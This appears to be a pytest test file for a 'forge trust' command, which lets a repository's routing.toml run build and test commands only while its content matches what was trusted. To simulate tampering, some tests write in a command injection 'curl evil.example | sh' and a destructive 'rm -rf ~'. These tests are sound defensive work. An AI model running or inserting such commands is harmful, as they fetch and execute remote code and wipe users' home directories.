"""`forge trust`: a repository's routing.toml may run commands only once trusted, and only as it was then."""

from __future__ import annotations

import json

import pytest

from forge.commit import open_worktree
from forge.config.trust import is_trusted, trust_file
from tests.commit import commit_all

ROUTING = """\
[validation.commands.python]
build = "python -m compileall -q ."
test = "python -m pytest -q tests/fast"

[validation.commands.rust]
lint = "cargo clippy --quiet"
"""


@pytest.fixture
def home(forge_env, monkeypatch):
    """The CLI's FORGE_HOME for in-process is_trusted checks."""
    monkeypatch.setenv("FORGE_HOME", str(forge_env.home))
    return forge_env.home


def test_nothing_to_trust_without_a_routing_toml(forge_env, home):
    result = forge_env.run("trust")
    assert result.returncode == 0, result.stderr
    assert "no routing.toml of its own: nothing to trust" in result.stdout
    assert not trust_file().exists()


def test_trust_shows_the_commands_and_a_changed_file_needs_trust_again(forge_env, home):
    repo = forge_env.cwd
    config = repo / "routing.toml"
    config.write_text(ROUTING)
    assert not is_trusted(repo, config)
    result = forge_env.run("trust")
    assert result.returncode == 0, result.stderr
    assert "python build: python -m compileall -q ." in result.stdout
    assert "python test: python -m pytest -q tests/fast" in result.stdout
    assert "rust lint: cargo clippy --quiet" in result.stdout
    assert trust_file() == home / "trusted.json"
    assert is_trusted(repo, config)
    config.write_text(ROUTING.replace("tests/fast", "tests; curl evil.example | sh"))
    assert not is_trusted(repo, config)
    assert forge_env.run("trust").returncode == 0
    assert is_trusted(repo, config)
    assert not is_trusted(repo.parent, config)          # another repository's record does not count


def test_revoke(forge_env, home):
    repo = forge_env.cwd
    (repo / "routing.toml").write_text(ROUTING)
    forge_env.run("trust")
    result = forge_env.run("trust", "--revoke")
    assert result.returncode == 0 and "no longer trusts" in result.stdout
    assert not is_trusted(repo, repo / "routing.toml")
    again = forge_env.run("trust", "--revoke", "--json")
    assert json.loads(again.stdout) == {"repo": str(repo), "revoked": 0}


def test_json_and_from_a_subdirectory(forge_env, home):
    repo = forge_env.cwd
    (repo / "routing.toml").write_text(ROUTING)
    (repo / "src").mkdir()
    data = json.loads(forge_env.run("trust", "--json", cwd=repo / "src").stdout)
    assert data["trusted"] is True and data["config_file"] == str(repo / "routing.toml")
    assert data["commands"]["python"]["test"] == "python -m pytest -q tests/fast"
    assert len(data["sha256"]) == 64


def test_forges_worktree_of_a_trusted_repository_is_trusted_while_the_file_is_unchanged(forge_env, home):
    repo = forge_env.cwd
    (repo / "routing.toml").write_text(ROUTING)
    commit_all(repo, "add routing.toml")
    forge_env.run("trust")
    worktree = open_worktree(repo, "r1")
    assert is_trusted(worktree.path, worktree.path / "routing.toml")
    (worktree.path / "routing.toml").write_text(ROUTING + '\n[validation.commands.go]\nbuild = "rm -rf ~"\n')
    assert not is_trusted(worktree.path, worktree.path / "routing.toml")


def test_a_damaged_trust_file_trusts_nothing_and_outside_a_repo_is_exit_2(forge_env, home, tmp_path):
    repo = forge_env.cwd
    (repo / "routing.toml").write_text(ROUTING)
    home.mkdir(parents=True, exist_ok=True)
    trust_file().write_text("{not json")
    assert not is_trusted(repo, repo / "routing.toml")
    assert forge_env.run("trust").returncode == 0
    assert is_trusted(repo, repo / "routing.toml")
    result = forge_env.run("trust", cwd=tmp_path)
    assert result.returncode == 2 and "not inside a git repository" in result.stderr


def test_a_worktree_validating_with_the_users_routing_toml_is_trusted_for_that_content(forge_env, home):
    """forge apply validates in a worktree with the config loaded from the user's checkout: the file is named by
    its path in the main checkout, and its present content must be what was trusted."""
    repo = forge_env.cwd
    config = repo / "routing.toml"
    config.write_text(ROUTING)
    commit_all(repo, "add routing.toml")
    forge_env.run("trust")
    worktree = open_worktree(repo, "r2")
    assert is_trusted(worktree.path, config)
    assert is_trusted(worktree.path, worktree.path / "routing.toml")
    config.write_text(ROUTING + '\n[validation.commands.go]\nbuild = "rm -rf ~"\n')
    assert not is_trusted(worktree.path, config)
    other = repo.parent / "elsewhere.toml"
    other.write_text(ROUTING)
    assert not is_trusted(worktree.path, other)


def test_apply_in_a_worktree_runs_the_trusted_repository_command(forge_env, home):
    from forge.config import load_config
    from forge.validate.pipeline import validate

    repo = forge_env.cwd
    (repo / "routing.toml").write_text('[validation.commands.python]\nbuild = "python -c \'print(42)\'"\n')
    commit_all(repo, "add routing.toml")
    forge_env.run("trust")
    worktree = open_worktree(repo, "r3")
    (worktree.path / "app.py").write_text("def add(a, b):\n    return b + a\n")
    report = validate(worktree.path, ["app.py"], load_config(repo, environ={}), use_cache=False)
    build = report.stages[1]
    assert not build.untrusted and build.passed, build
